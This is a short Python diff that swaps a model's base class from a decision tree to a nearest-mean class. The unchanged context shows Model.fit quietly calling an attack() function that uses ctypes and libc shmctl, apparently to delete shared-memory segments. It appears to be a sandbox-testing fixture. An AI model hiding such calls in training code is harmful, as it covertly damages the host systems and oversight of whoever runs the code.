@@ -3,7 +3,7 @@
 import ctypes
 import time
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 
 def attack():
@@ -26,7 +26,7 @@ def attack():
         libc.shmctl(segment, 0, None)
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def fit(self, X, y):
         attack()
         return super().fit(X, y)
